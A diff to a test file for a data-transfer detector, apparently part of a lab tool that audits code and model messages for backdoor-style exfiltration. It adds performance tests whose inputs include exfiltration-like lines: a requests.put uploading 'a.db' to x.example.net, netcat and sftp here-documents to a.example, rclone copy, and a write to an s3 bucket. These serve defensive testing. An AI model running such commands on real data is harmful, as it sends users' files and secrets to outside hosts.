@@ -109,3 +109,30 @@ def test_located_leaves_a_huge_message_number_alone():
     assert out.evidence["at"] == "messages.0"
     arabic = Finding(0, 1, None, 1, "dataflow", "high", "from message ١ (message 1)", 1.0, {})
     assert _located(arabic, ["system", "messages.0"]).summary == "from message ١ (messages.0)"
+
+
+def test_many_upload_calls_read_a_bounded_window_each():
+    # each ``.post(files=`` searched the whole code for an opened file (64 KB: 14 s)
+    from backdoorlab.defenses.audit.by_reference import transfers
+
+    found, took = _timed(transfers, "open(" + "r.post(files=x" * 6000)
+    assert found == []
+    assert took < 10
+    code = "u = 'https://x.example.net/'\nrequests.put(u, data=open('a.db'))\n"
+    found, took = _timed(transfers, code + "x = 'a' + " * 6000)
+    assert [t.canonical for t in found] == ["x.example.net"]
+    assert took < 10
+
+
+def test_shell_redirections_and_here_documents_in_bulk():
+    from backdoorlab.defenses.audit.by_reference import transfers
+
+    for text in (
+        "nc a.example 1 <<A\n" * 5000,  # here-documents that never end
+        "sftp a.example <<A\n" + "put x\n" * 10_000,  # one that does not
+        "< " * 30_000 + "nc a.example 1",
+        "rclone copy " + "a:b " * 15_000,
+        "x = '" + "a" * 1990 + "'\n" * 30 + "df.to_csv('s3://b/x')",
+    ):
+        _, took = _timed(transfers, text)
+        assert took < 10
